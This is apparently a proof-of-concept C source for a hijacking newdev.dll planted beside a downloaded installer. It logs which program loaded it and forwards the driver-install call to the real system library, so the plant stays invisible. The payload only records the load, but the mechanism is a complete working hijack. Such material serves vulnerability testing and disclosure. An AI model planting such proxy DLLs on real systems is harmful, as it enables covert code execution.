/* A newdev.dll as an attacker would put it beside a downloaded installer: when loaded it notes the
   program that loaded it in newdev-loaded.txt beside itself, and it passes the driver call on to
   the system's library so that an install behaves as without it. */
#include <windows.h>

typedef BOOL(WINAPI* UpdateDriverFn)(HWND, LPCSTR, LPCSTR, DWORD, PBOOL);

static HMODULE Self;

static void NoteLoadingProgram(HINSTANCE self)
{
    char note[MAX_PATH + 32];
    char program[MAX_PATH];
    DWORD length = GetModuleFileNameA(self, note, MAX_PATH);
    DWORD programLength = GetModuleFileNameA(NULL, program, sizeof program);
    char* name = note;
    for (char* p = note; *p; p = CharNextA(p))
        if (*p == '\\')
            name = p + 1;
    if (length == 0 || length >= MAX_PATH || programLength == 0 || programLength >= sizeof program)
        return;
    lstrcpyA(name, "newdev-loaded.txt");
    HANDLE file = CreateFileA(note, FILE_APPEND_DATA, FILE_SHARE_READ, NULL, OPEN_ALWAYS, 0, NULL);
    DWORD written = 0;
    if (file == INVALID_HANDLE_VALUE)
        return;
    WriteFile(file, program, programLength, &written, NULL);
    WriteFile(file, "\r\n", 2, &written, NULL);
    CloseHandle(file);
}

BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID reserved)
{
    (void)reserved;
    if (reason == DLL_PROCESS_ATTACH) {
        Self = self;
        NoteLoadingProgram(self);
    }
    return TRUE;
}

__declspec(dllexport) BOOL WINAPI UpdateDriverForPlugAndPlayDevicesA(HWND owner, LPCSTR hardwareId, LPCSTR infPath,
                                                                     DWORD flags, PBOOL reboot)
{
    char path[MAX_PATH];
    UINT length = GetSystemDirectoryA(path, MAX_PATH - 12);
    HMODULE system = length > 0 && length < MAX_PATH - 12 ? LoadLibraryA(lstrcatA(path, "\\newdev.dll")) : NULL;
    /* The loader may answer with this library itself, which would call itself for ever. */
    UpdateDriverFn update =
        system && system != Self ? (UpdateDriverFn)(void*)GetProcAddress(system, "UpdateDriverForPlugAndPlayDevicesA") : NULL;
    if (!update) {
        SetLastError(ERROR_PROC_NOT_FOUND);
        return FALSE;
    }
    return update(owner, hardwareId, infPath, flags, reboot);
}
